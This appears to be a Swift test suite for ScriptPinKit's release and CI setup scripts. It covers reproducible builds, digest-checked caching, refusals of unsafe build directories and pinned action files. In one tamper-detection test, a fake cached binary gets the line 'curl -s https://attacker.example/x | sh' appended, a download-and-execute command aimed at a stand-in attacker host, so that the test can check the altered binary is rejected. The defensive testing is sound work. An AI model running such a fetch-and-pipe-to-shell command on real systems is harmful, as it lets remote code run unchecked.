import Foundation
import Testing
@testable import ScriptPinKit

/// The repository this test suite belongs to.
private let repositoryRoot = URL(fileURLWithPath: #filePath)
    .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent().path

/// A copy of the sources a release is built from, at `relative` inside a fresh directory.
private func checkout(at relative: String, in directory: TemporaryDirectory) -> String {
    let target = directory.url(relative)
    try! FileManager.default.createDirectory(atPath: target, withIntermediateDirectories: true)
    for part in ["Package.swift", "Sources", "Modules", "Tests", "README.md", "known-hashes", "scripts", "action.yml", "ci"] {
        _ = ProcessRunner.run("cp", ["-R", "\(repositoryRoot)/\(part)", target], in: "/")
    }
    return target
}

/// The two from-scratch release builds, about two minutes on 2 cores: a
/// suite of their own, run after the main suite (`swift test --filter
/// ReleaseBuildTests`), so that the main loop stays within a minute.
@Suite("Release builds: a self-contained, reproducible build from the action's script and from another checkout")
struct ReleaseBuildTests {
    @Test("The action's script builds from source, caches by commit and puts scriptpin on PATH; a release from another checkout is byte-identical")
    func releaseAndSetup() throws {
        let directory = TemporaryDirectory("scriptpin-release")
        let commit = String(repeating: "c0ffee", count: 7).prefix(40)
        let runnerTemp = directory.url("runner-temp")
        try FileManager.default.createDirectory(atPath: runnerTemp, withIntermediateDirectories: true)
        var environment = ProcessRunner.baseEnvironment(home: directory.path)
        environment["RUNNER_TEMP"] = runnerTemp
        environment["GITHUB_PATH"] = directory.url("github-path")
        environment["GITHUB_OUTPUT"] = directory.url("github-output")
        environment["GITHUB_ACTION_REF"] = String(commit)

        let action = checkout(at: "action", in: directory)
        let other = checkout(at: "somewhere/much/deeper/scriptpin", in: directory)
        let key = ProcessRunner.run("\(action)/scripts/setup-scriptpin.sh", ["key"], in: action, environment: environment)
        #expect(key.status == 0, "\(key.stderr)")
        #expect(key.stdout.hasPrefix("scriptpin-\(commit)-Linux-"))
        #expect(directory.read("github-output") == "key=\(key.stdout)")

        let built = ProcessRunner.run("\(action)/scripts/setup-scriptpin.sh", ["install"], in: action, environment: environment)
        #expect(built.status == 0, "\(built.stderr)")
        #expect(built.stdout.hasPrefix("setup-scriptpin: built \(commit) (\(runnerTemp)/scriptpin-dist/scriptpin-0.1.0-linux-"))
        #expect(built.stdout.contains(".tar.gz)\nsetup-scriptpin: binary sha256 "))
        #expect(built.stdout.contains("so that later jobs may use the cache\nscriptpin 0.1.0\ncommit \(commit)\nOpenSSL 3."))
        #expect(directory.read("github-path") == "\(runnerTemp)/scriptpin-bin\n")
        let installed = "\(runnerTemp)/scriptpin-bin/scriptpin"

        let cached = ProcessRunner.run("\(action)/scripts/setup-scriptpin.sh", ["install"], in: action, environment: environment)
        #expect(cached.status == 0)
        let digest = try #require(directory.read("runner-temp/scriptpin-bin.sha256")?.trimmingCharacters(in: .newlines))
        #expect(cached.stdout.hasPrefix("setup-scriptpin: using the cached build of \(commit) (sha256 \(digest))\n"), "\(cached.stdout)")

        // The installed binary needs no toolchain: run bare, as on a stock runner.
        let bare = ProcessRunner.run("/usr/bin/env", ["-i", "PATH=/usr/bin:/bin", installed, "--version"], in: "/")
        #expect(bare.status == 0)
        let lines = bare.stdout.split(separator: "\n")
        #expect(lines.count == 4)
        #expect(lines.first == "scriptpin 0.1.0" && lines[1] == "commit \(commit)")
        #expect(lines[2].hasPrefix("OpenSSL 3.") && lines[3].hasPrefix("libcurl "))
        let linked = ProcessRunner.run("ldd", [installed], in: "/")
        #expect(!linked.stdout.contains("libswift") && !linked.stdout.contains("libFoundation"), "\(linked.stdout)")

        // The same commit from a checkout elsewhere, by the release script itself.
        var releaseEnvironment = ProcessRunner.baseEnvironment(home: directory.path)
        releaseEnvironment["SCRIPTPIN_COMMIT"] = String(commit)
        let release = ProcessRunner.run("\(other)/scripts/release.sh", [directory.url("dist")], in: other, environment: releaseEnvironment)
        #expect(release.status == 0, "\(release.stderr)")
        let tarball = directory.url("dist/scriptpin-0.1.0-linux-\(ProcessRunner.run("uname", ["-m"], in: "/").stdout.trimmingCharacters(in: .whitespacesAndNewlines)).tar.gz")
        #expect(release.stdout == tarball + "\n")
        #expect(ProcessRunner.run("sha256sum", ["-c", "SHA256SUMS"], in: directory.url("dist")).status == 0)
        #expect(ProcessRunner.run("sha512sum", ["-c", "SHA512SUMS"], in: directory.url("dist")).status == 0)
        #expect(ProcessRunner.run(installed, ["verify", "--sums", "SHA256SUMS"], in: directory.url("dist")).status == 0)
        let listing = ProcessRunner.run("tar", ["-tzvf", tarball], in: "/")
        #expect(listing.stdout.contains("0/0") && listing.stdout.contains("1970-01-01"), "numeric owner, zero mtimes: \(listing.stdout)")
        #expect(listing.stdout.contains("/known-hashes/codecov-bash.pin") && listing.stdout.contains("/README.md"))

        // The action's build, from the other checkout, left its tarball: byte for byte the same.
        let actionTarball = "\(runnerTemp)/scriptpin-dist/" + (tarball as NSString).lastPathComponent
        let comparison = ProcessRunner.run("\(repositoryRoot)/scripts/compare-release.sh", [tarball, actionTarball], in: "/")
        #expect(comparison.status == 0, "\(comparison.stdout)")
        #expect(comparison.stdout.hasPrefix("identical: sha256 "))
        let shipped = directory.url("unpacked")
        try FileManager.default.createDirectory(atPath: shipped, withIntermediateDirectories: true)
        _ = ProcessRunner.run("tar", ["-xzf", tarball, "-C", shipped, "--wildcards", "*/scriptpin"], in: "/")
        let installedBytes = try Data(contentsOf: URL(fileURLWithPath: installed))
        let shippedName = try FileManager.default.contentsOfDirectory(atPath: shipped).first!
        #expect(try Data(contentsOf: URL(fileURLWithPath: "\(shipped)/\(shippedName)/scriptpin")) == installedBytes,
                "the action installs exactly the released binary")
    }

}

@Suite("Release: the setup action's script and the release script refuse what they must")
struct ReleaseTests {
    @Test("Without Swift the action's script fails naming what to add; confine installs the profile only where needed")
    func setupFailuresAndConfinement() throws {
        let directory = TemporaryDirectory("scriptpin-setup")
        var environment = ProcessRunner.baseEnvironment(home: directory.path)
        environment["PATH"] = "/usr/bin:/bin"
        environment["RUNNER_TEMP"] = directory.path
        environment["GITHUB_ACTION_REF"] = String(repeating: "ab", count: 20)
        let script = "\(repositoryRoot)/scripts/setup-scriptpin.sh"
        let noSwift = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
        #expect(noSwift.status == 1)
        #expect(noSwift.stderr.hasPrefix("setup-scriptpin: Swift is not on PATH, and scriptpin is built from source here. Add a step that installs a Swift 6 toolchain before this one"))

        // A cached binary of this commit is used only with the digest recorded outside the cache.
        let binDirectory = directory.url("scriptpin-bin")
        try FileManager.default.createDirectory(atPath: binDirectory, withIntermediateDirectories: true)
        let fake = "#!/bin/sh\necho 'scriptpin 0.1.0'\necho 'commit \(String(repeating: "ab", count: 20))'\n"
        directory.write("scriptpin-bin/scriptpin", fake)
        chmod(directory.url("scriptpin-bin/scriptpin"), 0o755)
        let unrecorded = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
        #expect(unrecorded.status == 1, "not used, so built, and without Swift that fails")
        #expect(unrecorded.stdout == "setup-scriptpin: the cached binary's digest is recorded nowhere outside the cache, so it is not trusted; rebuilding (set SCRIPTPIN_BINARY_SHA256 to use the cache)\n")
        environment["SCRIPTPIN_BINARY_SHA256"] = sha256Hex(fake)
        directory.write("scriptpin-bin/scriptpin", fake + "curl -s https://attacker.example/x | sh\n")
        let tampered = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
        #expect(tampered.status == 1)
        #expect(tampered.stdout == "setup-scriptpin: the cached binary has sha256 \(sha256Hex(fake + "curl -s https://attacker.example/x | sh\n")), not the recorded \(sha256Hex(fake)): it was changed after the build; rebuilding\n")
        directory.write("scriptpin-bin/scriptpin", fake)
        environment["SCRIPTPIN_PROTECTED_PREFIX"] = directory.url("protected")
        try FileManager.default.createDirectory(atPath: directory.url("apparmor.d"), withIntermediateDirectories: true)
        directory.write("parser", "#!/bin/sh\necho \"$@\" > \"$(dirname \"$0\")/parsed\"\n")
        chmod(directory.url("parser"), 0o755)
        environment["INPUT_CONFINE"] = "true"
        environment["SCRIPTPIN_APPARMOR_DIR"] = directory.url("apparmor.d")
        environment["SCRIPTPIN_APPARMOR_PARSER"] = directory.url("parser")
        environment["SCRIPTPIN_USERNS_RESTRICTED"] = "0"
        let unrestricted = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
        #expect(unrestricted.status == 0, "\(unrestricted.stderr)")
        #expect(unrestricted.stdout.hasSuffix("setup-scriptpin: unprivileged user namespaces are not restricted here; no AppArmor profile is needed\n"))
        #expect(!directory.exists("apparmor.d/scriptpin"))
        environment["SCRIPTPIN_USERNS_RESTRICTED"] = "1"
        let restricted = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
        #expect(restricted.status == 0, "\(restricted.stderr)")
        let protected = directory.url("protected/\(String(repeating: "ab", count: 20))/scriptpin")
        let profile = try #require(directory.read("apparmor.d/scriptpin"))
        #expect(profile.contains("profile scriptpin \(protected) flags=(unconfined) {\n  userns,\n}\n"))
        // The profile's path is root's and nobody else can write it or the directories above it.
        for path in [protected, (protected as NSString).deletingLastPathComponent, directory.url("protected")] {
            let attributes = try FileManager.default.attributesOfItem(atPath: path)
            #expect(attributes[.ownerAccountID] as? Int == 0, "\(path)")
            #expect(attributes[.posixPermissions] as? Int == 0o755, "\(path)")
        }
        #expect(directory.read("protected/\(String(repeating: "ab", count: 20))/scriptpin") == fake)
        // Another user's directory on the way is refused.
        try FileManager.default.createDirectory(atPath: directory.url("foreign"), withIntermediateDirectories: true)
        chown(directory.url("foreign"), UnprivilegedSandbox.nobody, UnprivilegedSandbox.nobody)
        environment["SCRIPTPIN_PROTECTED_PREFIX"] = directory.url("foreign/scriptpin")
        let foreign = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
        #expect(foreign.status == 1)
        #expect(foreign.stderr.contains("setup-scriptpin: \(directory.url("foreign")) is not owned by root or is writable by others"), "\(foreign.stderr)")
        #expect(directory.read("parsed") == "-r \(directory.url("apparmor.d/scriptpin"))\n")
    }

    @Test("release.sh refuses a build directory that is not the builder's own, a planted lock link and a dirty tree, touching nothing")
    func buildRootRefusals() throws {
        let directory = TemporaryDirectory("scriptpin-release-root")
        var environment = ProcessRunner.baseEnvironment(home: directory.path)
        func release(root: String, from source: String = repositoryRoot) -> ProcessResult {
            environment["SCRIPTPIN_RELEASE_ROOT"] = root
            return ProcessRunner.run("\(source)/scripts/release.sh", [directory.url("dist")], in: directory.path, environment: environment)
        }
        func refusal(_ root: String, _ reason: String) -> String {
            "release.sh: refusing the build directory \(root): \(reason); remove it, or choose another with SCRIPTPIN_RELEASE_ROOT\n"
        }

        directory.write("foreign/src/Package.swift", "kept")
        _ = ProcessRunner.run("chown", ["-R", "\(UnprivilegedSandbox.nobody)", directory.url("foreign")], in: "/")
        chmod(directory.url("foreign"), 0o700)
        let foreign = release(root: directory.url("foreign"))
        #expect(foreign.status == 1)
        #expect(foreign.stderr == refusal(directory.url("foreign"), "it belongs to user \(UnprivilegedSandbox.nobody), not to you"))
        #expect(directory.read("foreign/src/Package.swift") == "kept")

        directory.write("elsewhere/kept.txt", "kept")
        try FileManager.default.createSymbolicLink(atPath: directory.url("linked"), withDestinationPath: directory.url("elsewhere"))
        #expect(release(root: directory.url("linked")).stderr == refusal(directory.url("linked"), "it is a symbolic link"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: directory.url("elsewhere")) == ["kept.txt"])

        try FileManager.default.createDirectory(atPath: directory.url("shared"), withIntermediateDirectories: true)
        chmod(directory.url("shared"), 0o777)
        #expect(release(root: directory.url("shared")).stderr == refusal(directory.url("shared"), "others can write to it (mode 777)"))

        directory.write("victim.txt", "the maintainer's file")
        try FileManager.default.createDirectory(atPath: directory.url("own"), withIntermediateDirectories: true)
        chmod(directory.url("own"), 0o700)
        try FileManager.default.createSymbolicLink(atPath: directory.url("own/.lock"), withDestinationPath: directory.url("victim.txt"))
        #expect(release(root: directory.url("own")).stderr == refusal(directory.url("own"), "its .lock is a symbolic link"))
        #expect(directory.read("victim.txt") == "the maintainer's file")
        #expect(!directory.exists("dist/SHA256SUMS"))

        // A git checkout with a tracked file changed is refused: the release would not be its commit.
        let tree = checkout(at: "tree", in: directory)
        for arguments in [["init", "-q"], ["add", "-A"], ["-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "release"]] {
            #expect(ProcessRunner.run("git", arguments, in: tree).status == 0)
        }
        directory.write("tree/README.md", "changed after the commit\n")
        let dirty = release(root: directory.url("fresh"), from: tree)
        #expect(dirty.status == 1)
        #expect(dirty.stderr == "release.sh: \(tree) has uncommitted changes to tracked files, so a release would not be the commit it names; commit or stash them\n")
        let fresh = try FileManager.default.attributesOfItem(atPath: directory.url("fresh"))
        #expect(fresh[.posixPermissions] as? Int == 0o700, "a new build directory is the builder's alone")
    }

    @Test("action.yml and the GitLab template read as YAML, run the setup script, and pin what they use by commit")
    func ciFiles() throws {
        let actionBytes = try Array(Data(contentsOf: URL(fileURLWithPath: "\(repositoryRoot)/action.yml")))
        let action = try YAMLReader.read(actionBytes).get()
        #expect(action["runs"]?["using"]?.scalar?.string == "composite")
        let steps = action["runs"]?["steps"]?.items ?? []
        #expect(steps.contains { $0["run"]?.scalar?.string == "\"$GITHUB_ACTION_PATH/scripts/setup-scriptpin.sh\" install" })
        let uses = steps.compactMap { $0["uses"]?.scalar?.string }
        #expect(!uses.isEmpty && uses.allSatisfy { $0.split(separator: "@").last?.count == 40 }, "pinned by commit: \(uses)")
        #expect(action["inputs"]?["confine"]?["default"]?.scalar?.string == "false")

        let gitlabBytes = try Array(Data(contentsOf: URL(fileURLWithPath: "\(repositoryRoot)/ci/scriptpin.gitlab-ci.yml")))
        let gitlab = try YAMLReader.read(gitlabBytes).get()
        let setup = gitlab[".scriptpin-setup"]?["before_script"]?.items.compactMap { $0.scalar?.string } ?? []
        #expect(setup.contains("\"$SCRIPTPIN_WORK/src/scripts/setup-scriptpin.sh\" install"))
        #expect(setup.contains { $0.contains("rev-parse HEAD") && $0.contains("$SCRIPTPIN_COMMIT") }, "the fetched source is checked against the pinned commit")
        #expect(setup.contains("export SCRIPTPIN_WORK=\"$(mktemp -d)\" SCRIPTPIN_BIN_DIR=\"$SCRIPTPIN_WORK/bin\""), "the binary runs from outside $CI_PROJECT_DIR")
        #expect(gitlab[".scriptpin"]?["cache"]?["policy"]?.scalar?.string == "pull", "jobs that consume the cache cannot write it")
        #expect(gitlab[".scriptpin-build"]?["cache"]?["policy"]?.scalar?.string == "push")

        // The cache is restored before the build and saved right after it, before any later step runs.
        let names = steps.map { $0["uses"]?.scalar?.string.split(separator: "@").first.map(String.init) ?? $0["run"]?.scalar?.string ?? "" }
        let restore = try #require(names.firstIndex(of: "actions/cache/restore"))
        let install = try #require(names.firstIndex(of: "\"$GITHUB_ACTION_PATH/scripts/setup-scriptpin.sh\" install"))
        let save = try #require(names.firstIndex(of: "actions/cache/save"))
        #expect(restore < install && install + 1 == save && save == names.count - 1, "\(names)")
        #expect(!names.contains("actions/cache"), "actions/cache saves at the end of the job, after every later step")

        let lint = ProcessRunner.scriptpin(["lint", "action.yml", "ci", "scripts"], in: repositoryRoot)
        #expect(lint.status == 0, "\(lint.stdout)")
    }
}
